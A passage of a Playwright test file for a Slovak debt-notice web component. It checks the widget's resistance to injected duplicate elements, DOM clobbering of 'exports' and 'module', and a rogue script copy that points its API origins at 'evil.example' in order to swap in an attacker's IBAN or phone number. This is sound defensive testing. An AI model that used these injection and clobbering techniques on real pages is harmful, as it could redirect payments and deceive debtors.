        page.locator("debt-notice").evaluateAll((all) => all.map((el) => el.shadowRoot?.innerHTML ?? "").join("\n"));
      const said = () =>
        page.locator("debt-notice").evaluateAll((all) => all.map((el) => el.shadowRoot?.textContent ?? "").join("\n"));
      // Whichever element shows the debtor, it has shown the whole notice (down to the privacy note) before we look.
      await expect.poll(shown, { timeout: 15_000 }).toContain('data-screen="form"');
      await expect.poll(said, { timeout: 15_000 }).toMatch(/osobné\s+údaje\s+spracúvame/);
      // No other debtor was asked for: the element with a reference of its own stayed empty.
      expect((await gatewayRequests()).filter((request) => JSON.stringify(request.body).includes("d4e5f6"))).toEqual(
        [],
      );
      const text = (await shown()).replace(/\s+/g, "");
      expect(text.includes(DEMO_CONFIG.payee.iban), "the host's own account is shown only without the injection").toBe(
        layout.shows === "host's account",
      );
      expect(text).not.toContain("SK6807200002891987426353");
      expect(text).not.toContain("SK68");
      expect(text).not.toContain("Platbys.r.o.");
      expect(text).not.toContain("0900666666");
      await context.close();
    });
  }

  // The fourteenth trial: a bare <debt-notice></debt-notice> (no attribute: it reads the address)
  // injected on a partner's page blanked the partner's widget beside it.
  // The fifteenth trial: `<debt-notice routing="path">` beside it blanked it too, and an unclosed
  // element before it wrapped it, the injected one showing the debtor without the page's config.
  const injections = {
    before: "<debt-notice></debt-notice>",
    after: "<debt-notice></debt-notice>",
    "before, as routing=path": '<debt-notice routing="path"></debt-notice>',
    "before, unclosed": '<debt-notice routing="memory" reference="d4e5f6-woman-low" api-base="/api/2/union-debt">',
  } as const;
  for (const where of Object.keys(injections) as (keyof typeof injections)[]) {
    it(`a <debt-notice> injected ${where} the partner's widget: the debtor's notice shows, with the page's config`, async () => {
      await resetGateway();
      const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
      await context.route("**/partner.html", async (route) => {
        const original = await route.fetch();
        const html = await original.text();
        const real = html.indexOf('<debt-notice\n          routing="memory"');
        const realEnd = html.indexOf("</debt-notice>", real) + "</debt-notice>".length;
        expect(real).toBeGreaterThan(0);
        // After: after the config script too, which the README puts right after the element (what
        // is written between the two is the page's own markup, and gets the config).
        const afterConfig = html.indexOf("</script>", realEnd) + "</script>".length;
        const at = where === "after" ? afterConfig : real;
        await route.fulfill({ response: original, body: `${html.slice(0, at)}${injections[where]}${html.slice(at)}` });
      });
      const page = await context.newPage();
      await page.goto(`${baseUrl()}/partner.html`);
      // The partner's own element: the one with captcha-src (the injected ones have none).
      const widget = new DebtNoticeModel(page, "debt-notice[captcha-src]");
      await widget.ready();
      expect(await widget.screen()).toBe("form");
      expect(await widget.host.locator("[part~='summary']").innerText()).toContain("Mária");
      // Seen, not just rendered: an element wrapped by an unclosed one shows through its slot.
      expect((await widget.host.boundingBox())?.height ?? 0).toBeGreaterThan(200);
      expect(await widget.host.getByRole("link", { name: DEMO_CONFIG.phone }).isVisible()).toBe(true);
      const injectedDrawn = await page
        .locator("debt-notice:not([captcha-src])")
        .evaluateAll((all) => all.map((el) => el.shadowRoot?.querySelector(".dn-container, .dn-root") !== null));
      expect(injectedDrawn, "the injected element draws nothing of its own").toEqual([false]);
      // Nor holds a place above the notice (the partner's CSS gives the element a screen's height).
      const heights = await page
        .locator("debt-notice:not([captcha-src])")
        .evaluateAll((all) =>
          all.filter((el) => !el.querySelector("debt-notice")).map((el) => el.getBoundingClientRect().height),
        );
      expect(heights.every((height) => height === 0)).toBe(true);
      await context.close();
    });
  }

  // The sixteenth trial: UMD's wrapper read `typeof exports` and `typeof module` from the window,
  // whose named elements markup supplies: the exports went onto the form, and mount() was gone.
  it("markup named exports and module cannot take the script's exports: DebtNotice.mount() still works", async () => {
    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
    const config = JSON.stringify({ reference: "a1b2c3-man-high", apiBase: "/api/2/union-debt", config: DEMO_CONFIG });
    await context.route("**/clobbered-portal", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>portal</title></head><body>
          <form name="exports"></form><img name="module"><form name="define"><input name="amd"></form>
          <div id="here"></div>
          <script src="/dist/debt-notice.umd.js"></script>
          <script>window.__mountType = typeof DebtNotice.mount; DebtNotice.mount(document.getElementById("here"), ${config});</script>
        </body></html>`,
      }),
    );
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(error.message));
    await page.goto(`${baseUrl()}/clobbered-portal`);
    await page.getByText("Ján Novák").first().waitFor();
    expect(await page.evaluate(() => (window as unknown as { __mountType: string }).__mountType)).toBe("function");
    expect(
      await page.evaluate(() => typeof (document.forms.namedItem("exports") as unknown as { mount?: unknown }).mount),
    ).toBe("undefined");
    expect(errors).toEqual([]);
    await context.close();
  });

  it("a gateway on another origin works only when the script tag names it (data-api-origins)", async () => {
    const gatewayOrigin = baseUrl().replace("localhost", "127.0.0.1");
    for (const listed of [false, true, "after an injected copy"] as const) {
      await resetGateway();
      const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
      const warnings: string[] = [];
      context.on("console", (message) => {
        if (message.type() === "warning") warnings.push(message.text());
      });
      await context.route("**/cross-origin-partner", (route) =>
        route.fulfill({
          contentType: "text/html",
          body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>partner</title>
            <script src="/dist/debt-notice.umd.js" ${listed ? `data-api-origins="${gatewayOrigin}"` : ""} defer></script></head><body>
            ${
              // The fourteenth trial: markup that loads a copy of the widget's script with a list of
              // its own, run first, defined the element, and the real gateway was refused.
              listed === "after an injected copy"
                ? `<script src="/dist/debt-notice.umd.js?copy" data-api-origins="https://evil.example"></script>`
                : ""
            }
            <debt-notice reference="a1b2c3-man-high" api-base="${gatewayOrigin}/api/2/union-debt"></debt-notice>${demoConfigScript("")}
            </body></html>`,
        }),
      );
      const page = await context.newPage();
      const origins: string[] = [];
      page.on("request", (request) => {
        if (request.url().includes("/api/2/union-debt/")) origins.push(new URL(request.url()).origin);
      });
      await page.goto(`${baseUrl().replace("127.0.0.1", "localhost")}/cross-origin-partner`);
      const widget = new DebtNoticeModel(page);
      await widget.ready();
      // Unlisted: no call at all, not even to the page's own gateway (its 404 would blame the link).
      expect(new Set(origins)).toEqual(new Set(listed ? [gatewayOrigin] : []));
      await expect(widget.heading.textContent()).resolves.toBe(
        listed
          ? "Upozornenie na nedoplatok na poistnom" // the calls went there and were answered
          : "Vaše upozornenie na nedoplatok sa na tejto stránke nedá zobraziť", // not "try again": it cannot help
      );
      expect(warnings.filter((text) => text.includes("data-api-origins"))).toHaveLength(listed ? 0 : 1);
      await context.close();
    }
  });
});
